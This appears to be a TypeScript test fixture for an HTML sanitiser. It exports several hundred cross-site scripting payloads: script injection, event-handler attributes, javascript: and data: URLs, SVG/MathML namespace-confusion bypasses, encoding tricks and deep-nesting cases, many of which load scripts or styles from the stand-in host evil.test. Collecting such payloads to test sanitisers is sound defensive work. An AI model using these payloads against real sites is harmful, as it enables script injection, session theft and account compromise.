/**
 * What attackers write into a text field. Each either calls `alert`, or asks `evil.test` for something when it
 * gets through; a browser that shows the sanitised form does neither (S-7).
 */
const LINES = String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=//evil.test/x.js></script>
<script src="https://evil.test/x.js" async defer></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/xss src=//evil.test/x.js></script>
<script>alert(1)//</script >
<script x>alert(1)</script x>
<script>/*<!--*/alert(1)</script>
<script type=module>import 'https://evil.test/m.js'</script>
<script>alert(1)
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</p><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</template><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<!--<script>alert(1)</script>-->
<!--><script>alert(1)</script>-->
<!---><script>alert(1)</script>-->
<!--!><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script>
<!-- ><img src=x onerror=alert(1)> -->
<!--><img src=x onerror=alert(1)>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo 1 ?><img src=x onerror=alert(1)>
<!DOCTYPE html><script>alert(1)</script>
<!doctype x [<!entity y "<script>alert(1)</script>">]>&y;
<%00script>alert(1)</script>
<script >alert(1)</script	>
<<script>alert(1)//<</script>
<script<>alert(1)</script>
<script/>alert(1)</script>
<script>alert(1)</script
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x:x onerror='alert(1)'>
<IMG SRC=x ONERROR=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert(1)//
<img src="x" onerror = alert(1) >
<img src=//evil.test/pixel.gif>
<img srcset="//evil.test/a 1x, //evil.test/b 2x">
<img src="javascript:alert(1)">
<img src=x onload=alert(1) onerror=alert(1)>
<img """><script>alert(1)</script>">
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=&#x61;&#x6c;ert(1)>
<img src='x'onerror='alert(1)'>
<img src=x onerror=alert${'`'}1${'`'}>
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<picture><source srcset=//evil.test/p><img src=x onerror=alert(1)></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=//evil.test/x.js /></svg>
<svg><script xlink:href=data:,alert(1) /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>
<svg><set attributeName=href to=javascript:alert(1) /><a><text>x</text></a></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><a href="javascript:alert(1)"><rect width=99 height=99 /></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"/></svg>
<svg><use xlink:href=//evil.test/x.svg#a></use></svg>
<svg><image href=//evil.test/x.png /></svg>
<svg><image href=x onerror=alert(1)></image></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style>@import '//evil.test/x.css';</style></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
<svg><discard onbegin=alert(1)>
<svg><feImage href=//evil.test/f.png /></svg>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<svg><textarea><img src=x onerror=alert(1)></textarea></svg>
<svg><noscript><img src=x onerror=alert(1)></noscript></svg>
<svg><font color=x><img src=x onerror=alert(1)></font></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>
<math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:alert(1)">x</maction></math>
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><annotation-xml><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></math>
<math><mtext></mtext><mglyph></mglyph><style></math><img src=x onerror=alert(1)></style>
<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><img src=x onerror=alert(1)></noscript>
<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>
<template><script>alert(1)</script></template>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<div><template shadowrootmode="closed"><style>@import '//evil.test/x.css'</style><slot></slot></template></div>
<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>
<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>
<xmp><img src=x onerror=alert(1)></xmp>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
<plaintext><img src=x onerror=alert(1)>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<style><p title="</style><img src=x onerror=alert(1)>"></style>
<select><style></select><img src=x onerror=alert(1)></style></select>
<select><template><img src=x onerror=alert(1)></template></select>
<select><option><style></option></select><b><img src=xx: onerror=alert(1)></style></option>
<option><script>alert(1)</script></option>
<table><tr><td><svg><style><td><img src=x onerror=alert(1)></style></svg></td></tr></table>
<table><caption><svg><p><style><a title="</style><img src=x onerror=alert(1)>"></caption></table>
<table background=//evil.test/b.png><td background=javascript:alert(1)>
<p><svg><style>*{font-family:'<br><style></style><img src onerror=alert(1)>'}</style></svg></p>
<b><style><b title="</style><img src=x onerror=alert(1)>">
<a><svg><a href=javascript:alert(1)></a></svg></a>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="	javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#0000058alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#14;  javascript:alert(1);">x</a>
<a href="javascript://evil.test/%0aalert(1)">x</a>
<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://evil.test/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="x-javascript:alert(1)">x</a>
<a href="//evil.test/x">x</a>
<a href="\\evil.test/x">x</a>
<a href="/\evil.test">x</a>
<a href="https://user:pass@evil.test/">x</a>
<a href="mailto:javascript:alert(1)">x</a>
<a href="https://evil.test/&quot; onmouseover=&quot;alert(1)">x</a>
<a href='https://evil.test/" onmouseover="alert(1)'>x</a>
<a href="https://evil.test/" onclick="alert(1)" style="position:fixed;inset:0" target=_top>x</a>
<a href="https://evil.test/" ping="//evil.test/ping">x</a>
<a href=https://evil.test/ autofocus tabindex=0 onfocus=alert(1)>x</a>
<a href="https://evil.test/?<script>alert(1)</script>">x</a>
<a href="https://evil.test/" href="javascript:alert(1)">x</a>
<a href="javascript:alert(1)" href="https://evil.test/">x</a>
<a href="https://evil.test" rel="opener" download ping=x>x</a>
<a HREF="javascript:alert(1)" id=x name=x>x</a>
<a id=x href="https://e.test/"><a id=x name=y href="javascript:alert(1)">clobber</a></a>
<p onclick=alert(1)>x</p>
<p onmouseover="alert(1)">x</p>
<p onpointerrawupdate=alert(1)>x</p>
<p onanimationstart=alert(1) style="animation:x 1s">x</p>
<p onfocusin=alert(1) tabindex=1 autofocus contenteditable>x</p>
<p style="background:url(//evil.test/b.png)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="behavior:url(#default#time2)" onbegin=alert(1)>x</p>
<p style="-moz-binding:url(//evil.test/x.xml#xss)">x</p>
<p class="modal" id="root">x</p>
<p/onclick=alert(1)>x
<p "onclick=alert(1) ">x</p>
<p title="<script>alert(1)</script>">x</p>
<strong onclick=alert(1) class=x>x</strong>
<em style=position:fixed;inset:0;z-index:9>x</em>
<code><script>alert(1)</script></code>
<blockquote cite="javascript:alert(1)">x</blockquote>
<h2 onload=alert(1)>x</h2>
<ul type="<svg onload=alert(1)>"><li>x</li></ul>
<li onclick=alert(1)>x
<br onclick=alert(1) clear=x>
<u style="background:url('//evil.test/u')">x</u>
<style>@import '//evil.test/x.css';</style>
<style>p{background:url(//evil.test/y.png)}</style>
<STYLE>@im\port'\ja\vasc\ript:alert(1)';</STYLE>
<link rel=stylesheet href=//evil.test/x.css>
<link rel=preload as=script href=//evil.test/x.js>
<link rel=prefetch href=//evil.test/x>
<link rel=dns-prefetch href=//evil.test>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//evil.test/">
<meta http-equiv=Content-Security-Policy content="default-src *">
<base href=//evil.test/>
<base href="javascript:/a/-alert(1)///">
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;">
<iframe src=//evil.test/></iframe>
<iframe onload=alert(1)>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<object data=javascript:alert(1)></object>
<object data=//evil.test/x.swf></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<applet code=x archive=//evil.test/x.jar></applet>
<video src=//evil.test/v.mp4 onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=//evil.test/p.png></video>
<audio src=x onerror=alert(1)>
<audio autoplay onloadstart=alert(1)><source src=//evil.test/a.mp3></audio>
<track src=//evil.test/t.vtt default>
<input autofocus onfocus=alert(1)>
<input type=image src=//evil.test/i.png onerror=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<form action=javascript:alert(1)><input type=submit></form>
<form action=//evil.test/ method=post><input name=password></form>
<isindex action=javascript:alert(1) type=image>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<body background=//evil.test/b.png>
<html onmouseover=alert(1)><head><script>alert(1)</script></head>
<bgsound src=javascript:alert(1)>
<layer src=//evil.test/x.js></layer>
<xss onpointerenter=alert(1) style=display:block>x</xss>
<custom-element is=x onclick=alert(1)>x</custom-element>
<slot onslotchange=alert(1)>x</slot>
<popover popover onbeforetoggle=alert(1)>x</popover>
<div popover id=x onbeforetoggle=alert(1)></div><button popovertarget=x>x</button>
<portal src=//evil.test/ onload=alert(1)></portal>
<fencedframe src=//evil.test/></fencedframe>
<div contenteditable onbeforeinput=alert(1)>x</div>
<div v-html="'<img src=x onerror=alert(1)>'">{{constructor.constructor('alert(1)')()}}</div>
<div ng-app>{{$on.constructor('alert(1)')()}}</div>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<esi:include src=//evil.test/x />
<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>
&lt;img src=x onerror=alert(1)&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&lt<script>alert(1)</script>
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
¼script¾alert(1)¼/script¾
<ſcript>alert(1)</ſcript>
<ıframe src=javascript:alert(1)>
{{7*7}}${'$'}{alert(1)}<%= alert(1) %>
<p>x</p
<a href="https://evil.test/
<img src=x onerror=alert(1)
<p <img src=x onerror=alert(1)>
<<img src=x onerror=alert(1)>
</><img src=x onerror=alert(1)>
</ img src=x onerror=alert(1)>
<//img src=x onerror=alert(1)>
`;

/** What a line of text cannot hold: characters nobody sees, and nesting deeper than a parser likes. */
const BUILT = [
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<\u0000script>alert(1)</script>',
  '<img\u000csrc=x\u000conerror=alert(1)>',
  '<img\nsrc=x\nonerror\n=\nalert(1)>',
  '<img src=x onerror\u000b=alert(1)>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="java\r\nscript:alert(1)">x</a>',
  '<a href="\ufeffjavascript:alert(1)">x</a>',
  '<a href="jav\u200bascript:alert(1)">x</a>',
  '\u2028<script>alert(1)</script>\u2029',
  '\u202e<script>alert(1)</script>',
  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
  `${'<b>'.repeat(600)}<script>alert(1)</script>`,
  `${'<ul><li>'.repeat(300)}<svg onload=alert(1)>`,
  `<form>${'<div>'.repeat(510)}<table></form><form><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
  `${'<p>'.repeat(100)}<math><mtext><style><img src=x onerror=alert(1)></style>`,
  `<a href="https://evil.test/${'a'.repeat(5000)}" onclick=alert(1)>x</a>`,
];

export const XSS_PAYLOADS: readonly string[] = [...LINES.split('\n').filter((line) => line !== ''), ...BUILT];
